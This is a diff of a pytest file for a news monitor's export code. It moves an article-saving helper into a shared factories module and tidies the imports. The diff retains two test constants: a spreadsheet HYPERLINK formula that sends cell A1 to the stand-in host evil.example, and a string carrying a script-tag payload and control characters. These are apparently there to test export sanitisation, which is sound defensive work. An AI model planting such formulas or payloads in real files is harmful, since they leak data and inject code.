@@ -9,47 +9,15 @@ import json
 from pathlib import Path
 
 import pytest
+from factories import save as _save
 
 from monitor.export import COLUMNS, export_rows, write_export
-from monitor.models import Article, Evidence, Flags
-from monitor.store import NewArticle, Store
+from monitor.models import Evidence
+from monitor.store import Store
 
 NOW = dt.datetime(2026, 11, 28, 9, 0, tzinfo=dt.UTC)
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
 HOSTILE = 'Talks, "quotes",\nline two\r\nthree <script>alert(1)</script> ]]> \x07\x1b end'
-
-
-def _save(
-    store: Store,
-    url: str,
-    title: str | None,
-    published: dt.date | None,
-    *,
-    source: str = "kisi-en",
-    language: str | None = "en",
-    evidence: tuple[Evidence, ...] = (),
-    story: str | None = None,
-    aliases: tuple[str, ...] = (),
-    seen: dt.datetime = NOW,
-) -> None:
-    agreement = any(e.kind == "agreement" for e in evidence)
-    countries = tuple(sorted({e.country for e in evidence if e.kind == "country" and e.country}))
-    weak = tuple(sorted({e.country for e in evidence if e.kind == "demonym" and e.country}))
-    flags = Flags(agreement, countries, weak, bool(evidence), evidence)
-    store.save_article(
-        NewArticle(
-            url=url,
-            source=source,
-            article=Article(url, title, published, "Body of " + url, language),
-            flags=flags,
-            content_hash="h-" + url,
-            simhash=1,
-            baseline=False,
-            aliases=aliases,
-            story=story,
-        ),
-        seen,
-    )
 
 
 @pytest.fixture
